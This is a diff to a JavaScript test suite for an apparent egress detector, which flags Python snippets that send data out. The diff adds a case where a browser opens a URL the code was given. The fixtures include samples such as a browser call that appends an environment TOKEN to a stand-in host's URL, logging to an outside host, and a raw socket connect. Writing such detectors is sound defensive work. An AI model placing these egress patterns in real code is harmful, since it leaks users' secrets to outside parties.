@@ -162,6 +162,7 @@ test('outbound logic through logging handlers, a browser given data, the C libra
   assert.ok(egress('import logging.handlers\nh = logging.handlers.HTTPHandler("logs.example", "/in")\n'));
   assert.ok(egress('import webbrowser, os\nwebbrowser.open("https://c.example/?k=" + os.environ["TOKEN"])\n'));
   assert.ok(!egress('import webbrowser\nwebbrowser.open("https://docs.example/manual")\n'), 'a fixed page');
+  assert.ok(!egress('import webbrowser\ndef show(server):\n    webbrowser.open(server.url)\n'), 'a URL it was given');
   assert.ok(egress('import ctypes\nlibc = ctypes.CDLL("libc.so.6")\nlibc.connect(3, None, 16)\n'));
   assert.ok(egress('import os\nos.system("git push https://git.example/x.git HEAD")\n'));
   assert.ok(!egress('import os\nos.system("git describe --tags")\n'));
